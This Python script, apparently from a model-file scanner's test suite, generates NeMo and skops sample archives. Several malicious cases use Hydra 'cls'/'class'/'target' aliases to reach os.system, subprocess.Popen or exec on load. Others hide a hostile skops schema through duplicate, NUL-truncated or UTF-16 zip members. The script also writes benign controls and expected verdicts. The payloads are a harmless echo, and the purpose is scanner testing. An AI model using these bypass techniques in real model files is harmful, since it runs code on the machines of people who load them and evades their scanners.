#!/usr/bin/python3
"""Writes samples/nemo-skops-bypass/: NeMo archives and skops zips whose loading calls code in ways
that once scanned `clean` (session 30 review), with benign controls that must stay clean.

NeMo (`ModelPT.restore_from` -> `from_config_dict` -> `maybe_update_config_version`, which renames
`cls` to `_target_` in every mapping without one and flattens `params` into its parent, then
`hydra.utils.instantiate`; Hydra 1.0 also read `class` and `target` as `_target_`):
- malicious/cls_submodule.nemo: `preprocessor: {cls: os.system, params: {command: ...}}`.
- malicious/cls_root.nemo: the root config is `cls: os.system` + `params`.
- malicious/cls_get_method_params.nemo: `cls: hydra.utils.get_method` whose `path` sits in `params`.
- malicious/class_alias.nemo: `class: subprocess.Popen` (Hydra 1.0's alias).
- malicious/nested_target.nemo: `encoder: {target: os.system}` (from_config_dict imports `target`).
- benign/hydra0_cls_params.nemo: a NeMo 1.0-era config written with `cls` + `params` naming NeMo
  modules, and data keys named `class`/`target` (must stay clean).

skops (`skops.io.load` opens the zip with Python's zipfile, reads only `schema.json`, ignores the
file name and the other members; zipfile keeps the last of repeated names and cuts names at NUL;
`json.loads(bytes)` detects UTF-16/32):
- malicious/extra_member.bin: schema.json with an os.system FunctionNode, plus a notes.txt.
- malicious/subdir_member.zip: the same schema beside the arrays moved under extra/.
- malicious/dup5.skops, dup5.zip: four benign schema.json copies, the hostile one last.
- malicious/nul_name.skops, nul_name.bin: the hostile schema stored as `schema.json\\0evil`.
- malicious/utf16_schema.bin: the hostile schema in UTF-16.
- benign/extra_member.bin: the committed benign skops model plus a README.md (must stay clean).
- benign/json_schema.zip: a zip holding a JSON Schema named schema.json and a CSV (must stay clean).

NeMo, Hydra and skops are not installed here: the archives are built with tarfile, zipfile and
yaml; the model weights and arrays are real (torch.save of a state dict, the arrays and schema of
samples/skops/benign/logistic_regression.skops). Payloads are harmless (`echo
modelgate-bypass-sample`); nothing is executed here. Run from the repository root with
/usr/bin/python3.
"""
import copy
import io
import json
import os
import shutil
import tarfile
import zipfile

import torch
import yaml

OUT = os.path.join("samples", "nemo-skops-bypass")
AREA = "nemo-skops-bypass"
ECHO = "echo modelgate-bypass-sample"
expected = {}


def expect(case, verdict, rules=(), absent=(), callee=None):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    if callee is not None:
        entry["callee"] = callee
    expected[f"{AREA}/{case}"] = entry


def put(path, data):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data)


# ---- NeMo ---------------------------------------------------------------------------------------

def weights():
    torch.manual_seed(0)
    state = {"encoder.weight": torch.randn(4, 4), "decoder.bias": torch.zeros(4)}
    buf = io.BytesIO()
    torch.save(state, buf)
    return buf.getvalue()


WEIGHTS = weights()


def nemo(config, gz=False):
    """A .nemo as SaveRestoreConnector writes it: a tar of model_config.yaml and model_weights.ckpt."""
    text = yaml.safe_dump(config, sort_keys=False).encode()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w:") as tar:
        for name, data in (("model_config.yaml", text), ("model_weights.ckpt", WEIGHTS)):
            info = tarfile.TarInfo("./" + name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


MODEL = "nemo.collections.asr.models.ctc_models.EncDecCTCModel"
ENCODER = {"cls": "nemo.collections.asr.modules.ConvASREncoder", "params": {"feat_in": 64, "activation": "relu"}}

put("malicious/cls_submodule.nemo", nemo({
    "target": MODEL,
    "preprocessor": {"cls": "os.system", "params": {"command": ECHO}},
    "encoder": ENCODER,
}))
expect("malicious/cls_submodule.nemo", "malicious", ["yaml/hydra-target"], callee="os.system")

put("malicious/cls_root.nemo", nemo({"cls": "os.system", "params": {"command": ECHO}}))
expect("malicious/cls_root.nemo", "malicious", ["yaml/hydra-target"], callee="os.system")

put("malicious/cls_get_method_params.nemo", nemo({
    "target": MODEL,
    "decoder": {"cls": "hydra.utils.get_method", "params": {"path": "builtins.exec"}},
}, gz=True))
expect("malicious/cls_get_method_params.nemo", "malicious", ["yaml/hydra-target"], callee="builtins.exec")

put("malicious/class_alias.nemo", nemo({
    "target": MODEL,
    "preprocessor": {"class": "subprocess.Popen", "params": {"args": ECHO, "shell": True}},
}))
expect("malicious/class_alias.nemo", "malicious", ["yaml/hydra-target"], callee="subprocess.Popen")

put("malicious/nested_target.nemo", nemo({"target": MODEL, "encoder": {"target": "os.system"}}))
expect("malicious/nested_target.nemo", "malicious", ["yaml/hydra-target"], callee="os.system")

put("benign/hydra0_cls_params.nemo", nemo({
    "sample_rate": 16000,
    "labels": [" ", "a", "b"],
    "train_ds": {"manifest_filepath": None, "batch_size": 32, "class": 3, "target": 0.5},
    "preprocessor": {
        "cls": "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
        "params": {"normalize": "per_feature", "window_size": 0.02, "features": 64},
    },
    "encoder": ENCODER,
    "decoder": {"cls": "nemo.collections.asr.modules.ConvASRDecoder", "params": {"feat_in": 8, "num_classes": 3}},
    "optim": {"name": "novograd", "lr": 0.01, "sched": {"name": "CosineAnnealing", "warmup_steps": 100}},
    "target": MODEL,
    "nemo_version": "1.0.0",
}))
expect("benign/hydra0_cls_params.nemo", "clean")

# ---- skops --------------------------------------------------------------------------------------

with zipfile.ZipFile(os.path.join("samples", "skops", "benign", "logistic_regression.skops")) as base:
    BASE = [(info.filename, base.read(info.filename)) for info in base.infolist()]
SCHEMA = json.loads(dict(BASE)["schema.json"])
ARRAYS = [(name, data) for name, data in BASE if name != "schema.json"]
HOSTILE = copy.deepcopy(SCHEMA)
HOSTILE["content"]["content"]["hook"] = {
    "__class__": "system",
    "__module__": "os",
    "__loader__": "FunctionNode",
    "content": {"module_path": "os", "function": "system"},
    "__id__": 9999,
}
BENIGN_TEXT = json.dumps(SCHEMA, indent=2).encode()
HOSTILE_TEXT = json.dumps(HOSTILE, indent=2).encode()


def zipped(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def with_nul_name(data, placeholder, real):
    assert len(placeholder) == len(real)
    return data.replace(placeholder, real)


put("malicious/extra_member.bin", zipped([("schema.json", HOSTILE_TEXT), *ARRAYS, ("notes.txt", b"trained 2024\n")]))
expect("malicious/extra_member.bin", "malicious", ["skops/dangerous-type"])

put("malicious/subdir_member.zip", zipped([("schema.json", HOSTILE_TEXT), *[("extra/" + n, d) for n, d in ARRAYS]]))
expect("malicious/subdir_member.zip", "malicious", ["skops/dangerous-type"])

DUP = zipped([("schema.json", BENIGN_TEXT)] * 4 + [("schema.json", HOSTILE_TEXT), *ARRAYS])
put("malicious/dup5.skops", DUP)
expect("malicious/dup5.skops", "malicious", ["skops/dangerous-type", "zip/duplicate-name"])
put("malicious/dup5.zip", DUP)
expect("malicious/dup5.zip", "malicious", ["skops/dangerous-type", "zip/duplicate-name"])

NUL = with_nul_name(zipped([("schema.jsonXevil", HOSTILE_TEXT), *ARRAYS]), b"schema.jsonXevil", b"schema.json\0evil")
put("malicious/nul_name.skops", NUL)
expect("malicious/nul_name.skops", "malicious", ["skops/dangerous-type", "zip/suspicious-name"], ["skops/malformed"])
put("malicious/nul_name.bin", NUL)
expect("malicious/nul_name.bin", "malicious", ["skops/dangerous-type", "zip/suspicious-name"])

put("malicious/utf16_schema.bin", zipped([("schema.json", HOSTILE_TEXT.decode().encode("utf-16")), *ARRAYS]))
expect("malicious/utf16_schema.bin", "malicious", ["skops/dangerous-type"])

put("benign/extra_member.bin", zipped([("schema.json", BENIGN_TEXT), *ARRAYS, ("README.md", b"# Logistic regression\n")]))
expect("benign/extra_member.bin", "clean", absent=["skops/untrusted-type", "skops/malformed"])

JSON_SCHEMA = {"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object",
               "properties": {"id": {"type": "integer"}, "label": {"type": "string"}}}
put("benign/json_schema.zip", zipped([("schema.json", json.dumps(JSON_SCHEMA, indent=2).encode()),
                                      ("data.csv", b"id,label\n1,cat\n2,dog\n")]))
expect("benign/json_schema.zip", "clean")

# Python's zipfile reads what the review said it reads (checked here, without skops).
for case in ("dup5.skops", "nul_name.bin", "extra_member.bin", "utf16_schema.bin"):
    with zipfile.ZipFile(os.path.join(OUT, "malicious", case)) as z:
        assert "hook" in json.loads(z.read("schema.json"))["content"]["content"], case

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1)
    f.write("\n")
